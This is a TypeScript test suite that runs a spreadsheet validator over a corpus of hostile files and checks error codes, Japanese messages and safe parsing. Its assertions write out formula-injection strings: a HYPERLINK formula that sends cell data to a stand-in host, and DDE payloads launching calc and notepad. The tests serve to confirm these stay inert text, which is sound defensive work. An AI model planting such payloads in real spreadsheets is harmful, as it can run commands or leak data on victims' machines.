// Walks tests/fixtures/hostile/files/ (plus a 50 MB workbook made here) in ONE validate run and
// checks, per file, the error code its name announces: <code>.<what>.<ext>, "ok" = read.
// One run over the whole folder also proves each bad file cost only itself.
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { main } from '../../lib/cli/main';
import { readWorkbook } from '../../lib/read/workbook';
import { writeImageHeavy } from './big';
import { capture } from './io';

const CORPUS = path.join(__dirname, '..', 'fixtures', 'hostile', 'files');

interface JsonFile {
  path: string;
  reportType: string | null;
  error?: { code: string; message: string };
  skippedSheets: { sheet: string; reason: string }[];
  findings: { rule: string; sheet: string; cell: string; message: string }[];
}

const expectedCode = (name: string): string => name.slice(0, name.indexOf('.'));

let dir: string;
let files: string[];
let json: { files: JsonFile[] };
let jsonExit: number;
let text: string;
let textExit: number;

beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shinchoku-hostile-'));
  for (const f of fs.readdirSync(CORPUS)) fs.copyFileSync(path.join(CORPUS, f), path.join(dir, f));
  writeImageHeavy(path.join(dir, 'ok.50mb-with-screenshots.xlsx'), 50);
  files = fs.readdirSync(dir).sort();
  const io = capture();
  jsonExit = main(['validate', dir, '--format', 'json'], io);
  json = JSON.parse(io.outText()) as { files: JsonFile[] };
  const tio = capture();
  textExit = main(['validate', dir], tio);
  text = tio.outText();
});

afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

const byName = (name: string): JsonFile => {
  const f = json.files.find((x) => path.basename(x.path) === name);
  if (!f) throw new Error(`${name} missing from the run`);
  return f;
};

describe('validate over the hostile corpus, one run', () => {
  test('the corpus has every kind the issue lists', () => {
    const codes = new Set(files.map(expectedCode));
    for (const c of ['ok', 'corrupt', 'empty', 'encrypted', 'expanded-too-large', 'no-report', 'not-spreadsheet', 'text-file', 'unsupported-format']) {
      expect(codes).toContain(c);
    }
    expect(files.length).toBeGreaterThanOrEqual(30);
  });

  test('every file of the folder is in the one result, with the code its name says', () => {
    expect(json.files.map((f) => path.basename(f.path)).sort()).toEqual(files);
    const table = json.files.map((f) => [path.basename(f.path), f.error?.code ?? 'ok']);
    expect(table).toEqual(files.map((n) => [n, expectedCode(n)]));
  });

  test('every refused file gets a Japanese reason; readable ones get their report type', () => {
    for (const f of json.files) {
      if (f.error) {
        expect(f.error.message).toMatch(/[ぁ-んァ-ヶ一-龯]/);
        // Internal English details never reach the user in place of a reason.
        expect(f.error.message).not.toMatch(/central directory|Error:|undefined|\{\w+\}/);
      } else {
        expect(f.reportType).toBe('検証報告書の提言に係る取組の進捗状況');
      }
    }
  });

  test('exit code 2 (unreadable files present) in both formats', () => {
    expect(jsonExit).toBe(2);
    expect(textExit).toBe(2);
  });

  test('text output names each refused file with its reason', () => {
    for (const f of json.files.filter((x) => x.error)) {
      const i = text.indexOf(`■ ${f.path}`);
      expect(i).toBeGreaterThanOrEqual(0);
      expect(text.slice(i, i + f.path.length + 400)).toContain(f.error!.message.slice(0, 20));
    }
    expect(text).toMatch(new RegExp(`読めないファイル ${json.files.filter((f) => f.error && f.error.code !== 'no-report').length} 件`));
  });

  test('clean copies in other formats (.xls, .ods, LibreOffice .xlsx, 50 MB) have no finding', () => {
    for (const n of ['ok.report.xlsx', 'ok.biff8-by-libreoffice.xls', 'ok.report-by-libreoffice.ods', 'ok.report-by-libreoffice.xlsx', 'ok.50mb-with-screenshots.xlsx', 'ok.header-only.xlsx', 'ok.stray-format-to-xfd1048576.xlsx']) {
      expect([n, byName(n).findings.map((f) => [f.sheet, f.cell, f.rule])]).toEqual([n, []]);
    }
  });

  test('formulas: cached results are used, missing ones are named at their cell', () => {
    expect(byName('ok.formulas-cached.xlsx').findings).toEqual([]);
    const t = byName('ok.formulas-no-cached-value.xlsx').findings.map((f) => [f.sheet, f.cell, f.rule]);
    expect(t).toEqual([
      ['提言1-ア', 'C5', 'formula-no-value'],
      ['提言1-ア', 'F6', 'formula-no-value'],
      ['提言1-ア', 'F6', 'required'],
    ]);
  });

  test('a sheet named __proto__ is read, not lost, and nothing is polluted', () => {
    const f = byName('ok.prototype-keys.xlsx');
    expect(f.skippedSheets.map((s) => s.sheet)).toEqual(['hasOwnProperty']);
    expect(f.findings.some((x) => x.message.includes('__proto__!A5'))).toBe(true);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, '!data')).toBe(false);
  });

  test('control characters and lone surrogates never reach the terminal raw', () => {
    // eslint-disable-next-line no-control-regex -- looking for exactly these characters
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(text).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    expect(text).not.toMatch(/[\u202a-\u202e]/);
  });
});

describe('what was read from the odd files', () => {
  const read = (name: string) => readWorkbook(fs.readFileSync(path.join(CORPUS, name)), name);

  test('a formula is read with its saved result; plain cells carry none', () => {
    const cell = read('ok.formulas-cached.xlsx').sheets[0]!.rows.get(4)?.get(2);
    expect([cell?.text, cell?.formula]).toEqual(['A', 'IF(1=1,"A","B")']);
    const all = read('ok.report.xlsx').sheets.flatMap((s) => [...s.rows.values()].flatMap((row) => [...row.values()]));
    expect(all.length).toBeGreaterThan(10);
    expect(all.filter((c) => c.formula !== undefined)).toEqual([]);
  });

  test('text starting with = + - @ stays text, never a formula', () => {
    const s = read('ok.formula-injection-text.xlsx').sheets[0]!;
    const texts = [4, 5, 6, 7].map((r) => s.rows.get(r)?.get(0));
    expect(texts.map((c) => c?.value)).toEqual([
      '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C notepad'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ]);
    expect(texts.every((c) => c?.formula === undefined)).toBe(true);
  });

  test('control characters and lone surrogates are kept as data', () => {
    const s = read('ok.control-chars-and-surrogates.xlsx').sheets[0]!;
    expect(s.rows.get(4)?.get(1)?.text).toContain('\u001b[2J');
    expect(s.rows.get(5)?.get(1)?.text).toContain('\ud800');
  });

  test('whole-sheet merges and stray formats stay within the cells that exist', () => {
    const stray = read('ok.stray-format-to-xfd1048576.xlsx').sheets[0]!;
    expect([stray.rowCount, stray.colCount]).toEqual([7, 6]);
    const full = read('ok.full-sheet-merge-validation-names.xlsx').sheets[0]!;
    expect(full.merges.every((m) => m.e.r < full.rowCount && m.e.c < full.colCount)).toBe(true);
    // One real cell at XFD1048576: the used area is the whole sheet, the merge budget holds.
    const far = read('ok.merge-to-far-corner-cell.xlsx').sheets[0]!;
    expect([far.rowCount, far.colCount]).toEqual([1048576, 16384]);
    expect(far.merges).toEqual([]);
  });

  test('XML entities are not expanded and no external file is read', () => {
    const s = read('ok.xml-entities-not-expanded.xlsx').sheets[0]!;
    const t = s.rows.get(19)?.get(0)?.text ?? '';
    expect(t).not.toContain('lollol');
    expect(t).not.toContain('root:');
  });
});
